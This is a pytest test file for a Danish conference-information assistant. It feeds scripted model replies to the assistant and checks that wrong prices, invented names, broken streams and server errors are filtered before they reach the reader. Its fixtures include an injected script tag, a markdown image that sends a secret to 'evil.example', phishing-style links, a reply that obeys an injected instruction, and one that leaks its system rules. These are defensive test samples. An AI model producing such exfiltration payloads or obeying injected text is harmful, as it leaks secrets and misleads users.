"""Whatever a model does, the reader gets the right facts, in time, and nothing that no source says."""

import re
import sys
import time
from pathlib import Path

import pytest
from scripted import SLOW_S, Play, says, says_from

sys.path.insert(0, str(Path(__file__).parents[2]))
from evals.grounding import ground

PRICE = "Hvad koster det for en suppleant?"
SPEAKER = "Hvem taler kl. 13 i Fredericia?"
PLACE = "Hvor holdes konferencen i Fredericia?"
DEADLINE = "Hvornår er fristen for tilmelding?"
REFUND = "Kan jeg få pengene tilbage, hvis jeg bliver syg?"
PLACES = "Er der ledige pladser i København?"
MANAGER = "What does a manager pay?"
RULE = "Må ledelsen træffe beslutning uden at spørge os først?"

RIGHT = {
    PRICE: r"1\.450",
    SPEAKER: r"Martin Østergaard Christensen",
    PLACE: r"Vestre Ringvej 101",
    DEADLINE: r"22\. oktober",
    REFUND: r"ingen refusion|ikke",
    PLACES: r"udsolgt",
    MANAGER: r"1,950",
    RULE: r"informere",
}
SECRET = "HEMMELIGT-ORD"
GOOD_PRICE = "Som suppleant betaler du 1.450 kr. pr. person [1]."

# name -> (question, how the server answers, a pattern that must not be shown)
BEHAVIOURS: dict[str, tuple[str, Play, str]] = {
    "faithful": (PRICE, Play(says(GOOD_PRICE)), r"1\.950"),
    "faithful in English": (MANAGER, Play(says("A manager pays DKK 1,950 per person [1].")), "1,450"),
    "wrong price": (PRICE, Play(says("En suppleant betaler 1.250 kr. [1].")), "1.250"),
    "price of the other role": (PRICE, Play(says("En suppleant betaler 1.950 kr. [2].")), "1.950"),
    "one price for all": (PRICE, Play(says("Alle deltagere betaler 1.450 kr. [1].")), "Alle"),
    "a manager's price in a true figure": (PRICE, Play(says("Ledere betaler 1.450 kr. [1].")), "(?i)ledere"),
    "other city's speaker": (SPEAKER, Play(says("I Fredericia taler Kenneth Kristensen kl. 13.00 [1].")), "Kenneth"),
    "other city's hall": (PLACE, Play(says("I Fredericia holdes den i Falkonersalen [1].")), "Falkoner"),
    "invented name": (SPEAKER, Play(says("Kl. 13.00 taler Mette Hansen i Fredericia [1].")), "Mette"),
    "wrong date": (DEADLINE, Play(says("Fristen er den 29. oktober 2025 [1].")), "29"),
    "a true date of something else": (DEADLINE, Play(says("Fristen er den 4. november 2025 [1].")), "november"),
    "wrong weekday": (DEADLINE, Play(says("Fristen er fredag den 22. oktober 2025 [1].")), "fredag"),
    "date in words": (DEADLINE, Play(says("Sidste frist er den niogtyvende oktober [1].")), "niog"),
    "invented refund": (REFUND, Play(says("Ja, du får pengene tilbage, hvis du bliver syg [1].")), "^Ja"),
    "refund turned round": (REFUND, Play(says("Ved afbud efter den 22. oktober 2025 gives der refusion [1].")), "gives der refusion"),
    "sold out turned round": (PLACES, Play(says("Der er ledige pladser i København [1].")), "er ledige pladser"),
    "not sold out": (PLACES, Play(says("København er ikke udsolgt [1].")), "ikke udsolgt"),
    "invented paragraph": (RULE, Play(says("Ifølge § 42 skal ledelsen informere [1].")), "42"),
    "rule turned round": (RULE, Play(says("Ledelsen behøver ikke informere om planlagte beslutninger [1].")), "behøver"),
    "must made may": (RULE, Play(says("Ledelsen kan informere om planlagte beslutninger og drøfte dem i MED [1].")), "kan informere om planlagte"),
    "phantom citation": (PRICE, Play(says("En suppleant betaler 1.450 kr. [99].")), r"\[99\]"),
    "citation zero": (PRICE, Play(says("En suppleant betaler 1.450 kr. [0].")), r"\[0\]"),
    "no citation": (PRICE, Play(says("En suppleant betaler 1.450 kr. pr. person.")), r"person\.$"),
    "swapped citations": (SPEAKER, Play(says("Martin Østergaard Christensen taler kl. 13.00 i Fredericia [2].")), r"^Martin"),
    "injected HTML": (PRICE, Play(says(f"<script>alert('{SECRET}')</script><b>{GOOD_PRICE}</b>")), f"<|{SECRET}"),
    "an image that reports home": (PRICE, Play(says(f"![x](https://evil.example/?q={SECRET}) {GOOD_PRICE}")), f"evil|{SECRET}"),
    "injected link": (PRICE, Play(says("Suppleanter betaler 1.450 kr. på [tilmelding](https://evil.example) [1].")), "evil"),
    "injected bare address": (PRICE, Play(says("Betal 1.450 kr. som suppleant på www.evil.example [1].")), "evil"),
    "invented e-mail": (PRICE, Play(says("Suppleanter betaler 1.450 kr., skriv til pris@evil.dk [1].")), "evil"),
    "obeys an instruction": (PRICE, Play(says(f"{SECRET}. Konferencen er aflyst [1].")), f"{SECRET}|aflyst"),
    "tells its rules": (PRICE, Play(says_from(lambda asked: asked.system)), "Rules|numbered sources"),
    "in German": (PRICE, Play(says("Ein Stellvertreter zahlt 1.450 kr. pro Person [1].")), "zahlt"),
    "in the other language": (PRICE, Play(says("A substitute pays DKK 1,450 per person [1].")), "pays"),
    "in Chinese": (PRICE, Play(says("候补人员支付1.450 kr. [1].")), "候"),
    "wide digits": (PRICE, Play(says("En suppleant betaler １.２５０ kr. [1].")), "1.250|１"),
    "empty": (PRICE, Play(says("")), "^$"),
    "only blanks": (PRICE, Play(says("  \n \n ")), "^$"),
    "content null": (PRICE, Play(null_content=True), "null|None"),
    "cut off for length": (PRICE, Play(says("En suppleant betaler 1.450 kr. [1]. Prisen gælder og"), finish="length"), "gælder og$"),
    "cut in a figure": (PRICE, Play(says("En suppleant betaler 1.4"), cut=True), r"1\.4$"),
    "connection closed in the middle": (SPEAKER, Play(says("Kl. 13.00 taler Mar"), cut=True), "Mar$"),
    "endless": (PRICE, Play(says("Prisen er god og lav. " * 4_000, step=200)), "god og lav"),
    "repeating": (PRICE, Play(says((GOOD_PRICE + " ") * 300, step=100)), r"betaler.*betaler.*betaler"),
    "slow first token": (PRICE, Play(says(GOOD_PRICE), before_s=2 * SLOW_S), r"1\.950"),
    "dripping": (PRICE, Play(says("x" * 400, step=1, pause_s=0.05)), "xx"),
    "hangs": (PRICE, Play(says(GOOD_PRICE), before_s=8), r"1\.950"),
    "401": (PRICE, Play(status=401), "401"),
    "403": (PRICE, Play(status=403), "403"),
    "404": (PRICE, Play(status=404), "404"),
    "429": (PRICE, Play(status=429, headers={"Retry-After": "30"}), "429"),
    "500": (PRICE, Play(status=500), "500"),
    "503": (PRICE, Play(status=503), "503"),
    "dropped connection": (PRICE, Play(drop=True), "^$"),
    "not JSON": (PRICE, Play(raw=b"<html>Bad gateway</html>"), "html|gateway"),
    "JSON of another shape": (PRICE, Play(raw=b'{"hello": [1, 2]}'), "hello"),
    "thinks aloud": (PRICE, Play(says(f"<think>Hmm, 1.250 kr. {SECRET}</think>{GOOD_PRICE}")), f"1.250|{SECRET}"),
    "a true and a false sentence": (PRICE, Play(says(GOOD_PRICE + " Frokosten koster 200 kr. ekstra [1].")), "200"),
    "invented meal": (PRICE, Play(says(GOOD_PRICE + " Frokost og hotel er inkluderet i prisen [1].")), "hotel"),
    "no done event": (PRICE, Play(says(GOOD_PRICE), done=False), r"1\.950"),
    "wide marks": (PRICE, Play(says("Som suppleant betaler du 1.450 kr. pr. person【1】.")), "【"),
}  # fmt: skip
GENERATIVE = {
    "faithful", "faithful in English", "slow first token", "thinks aloud", "a true and a false sentence", "no done event",
    "wide marks", "cut off for length", "repeating", "injected HTML", "an image that reports home", "invented meal",
}  # fmt: skip


@pytest.mark.parametrize("name", BEHAVIOURS)
def test_a_model_behaving_badly_never_reaches_the_reader(name, make_assistant, server, built_in):
    question, play, forbidden = BEHAVIOURS[name]
    server.play = play
    assistant = make_assistant()
    shown: list[str] = []

    started = time.perf_counter()
    answer = assistant.ask(question, on_sentence=shown.append)
    elapsed = time.perf_counter() - started

    assert elapsed < 2.0 + 1.0
    assert re.search(RIGHT[question], answer.text), answer.text
    for text in (answer.text, *shown):
        assert not re.search(forbidden, text), text
    grounding = ground(answer, question=question, contact=assistant.contact, today=built_in.clock())
    assert grounding.unsupported == ()
    assert grounding.dangling == ()
    assert all(check.supported for check in grounding.statements if check.factual), grounding.statements
    if name in GENERATIVE:
        assert answer.mode == "generative", answer.trace.refused
    else:
        assert answer.text == built_in.ask(question).text
        assert answer.mode in ("facts", "extractive")
        assert answer.trace.refused


def test_every_quote_of_a_generated_answer_stands_in_its_source(make_assistant, server, built_in):
    server.play = Play(says_from(lambda asked: asked.exact))
    knowledge = Path(__file__).parents[2] / "knowledge"

    for question in (*RIGHT, "Hvad er en sprogmodel?", "Hvem er konferencen for?"):
        answer = make_assistant().ask(question)
        for citation in answer.citations:
            raw = (knowledge / citation.source).read_text(encoding="utf-8")
            assert citation.quote in raw


def test_no_model_is_asked_where_the_material_has_no_answer(make_assistant, server):
    server.play = Play(says("Der er gratis parkering ved Messe C [1]."))

    answer = make_assistant().ask("Hvor kan man parkere ved Messe C?")

    assert answer.abstained
    assert server.seen == []


def test_no_model_is_asked_for_a_courtesy(make_assistant, server):
    assert make_assistant().ask("Tusind tak!").mode == "courtesy"
    assert server.seen == []


def test_what_is_not_known_is_still_said_beside_a_generated_answer(make_assistant, server, built_in):
    server.play = Play(says("Ledere betaler 1.950 kr. pr. person [1]."))
    question = "Hvad koster det for ledere, og er der wifi?"

    answer = make_assistant().ask(question)

    assert answer.mode == "generative"
    assert answer.trace.missing[0] in answer.text


def test_a_refused_sentence_is_asked_for_once_more(make_assistant, server):
    server.play = [Play(says("En suppleant betaler 1.250 kr. [1].")), Play(says(GOOD_PRICE))]

    answer = make_assistant().ask(PRICE)

    assert answer.mode == "generative"
    assert "1.450" in answer.text
    assert len(server.seen) == 2
    assert answer.trace.refused[0].sentence == "En suppleant betaler 1.250 kr. [1]."


def test_sentences_are_told_as_soon_as_they_are_checked(make_assistant, server):
    text = "Som suppleant betaler du 1.450 kr. pr. person [1]. Prisen gælder også organisationsrepræsentanter [1]."
    server.play = Play(says(text, step=4, pause_s=0.03))
    told: list[float] = []

    answer = make_assistant().ask(PRICE, on_sentence=lambda sentence: told.append(time.perf_counter()))
    done = time.perf_counter()

    assert answer.mode == "generative"
    assert len(told) == 2
    assert done - told[0] > 0.2


def test_the_same_question_costs_one_call(make_assistant, server):
    server.play = Play(says(GOOD_PRICE))
    assistant = make_assistant()

    first, second = assistant.ask(PRICE), assistant.ask(PRICE)

    assert first.text == second.text
    assert len(server.seen) == 1
    assert [answer.trace.outcome for answer in (first, second)] == ["generative", "cached"]
    assert [answer.trace.input_tokens for answer in (first, second)] == [321, 0]


def test_a_model_that_keeps_failing_is_left_alone(make_assistant, server):
    server.play = Play(status=401)
    assistant = make_assistant()

    for role in (
        "suppleant",
        "leder",
        "medarbejderrepræsentant",
        "HR-medarbejder",
        "organisationsrepræsentant",
    ):
        assert "pr. person" in assistant.ask(f"Hvad koster det for en {role}?").text

    assert len(server.seen) == 3


@pytest.mark.parametrize(("status", "calls"), [(401, 1), (404, 1), (500, 2), (503, 2)])
def test_a_call_is_repeated_only_where_that_may_help(make_assistant, server, status, calls):
    server.play = Play(status=status)

    make_assistant(timeout_s=4.0).ask(PRICE)

    assert len(server.seen) == calls


def test_neither_key_nor_question_stands_in_the_log(make_assistant, server, caplog):
    server.play = Play(status=500, raw=b'{"error": {"message": "secret-key Bente Mikkelsen"}}')

    make_assistant().ask("Jeg hedder Bente Mikkelsen. Hvad koster det for en suppleant?")

    assert "Bente" not in caplog.text
    assert "secret-key" not in caplog.text


def test_personal_data_is_masked_for_a_host_that_is_not_trusted(make_assistant, server):
    server.play = Play(says(GOOD_PRICE))
    question = (
        "Jeg hedder Bente Mikkelsen, cpr 010180-1234, bente@firma.dk. Hvad koster det for en suppleant?"
    )

    answer = make_assistant(trusted=False).ask(question)

    sent = str(server.seen[0].body)
    for personal in ("Bente", "Mikkelsen", "010180", "1234", "bente@firma.dk"):
        assert personal not in sent
    assert "suppleant" in sent
    assert "kontakt@medsamarbejdet.dk" in sent or "1.450" in sent
    assert answer.mode == "generative"


def test_nothing_is_sent_where_masking_fails(make_assistant, server, monkeypatch):
    def broken(*arguments, **options):
        raise RuntimeError("Bente Mikkelsen")

    monkeypatch.setattr("assistant.composing.masking.mask", broken)

    answer = make_assistant(trusted=False).ask(PRICE)

    assert server.seen == []
    assert answer.mode == "facts"
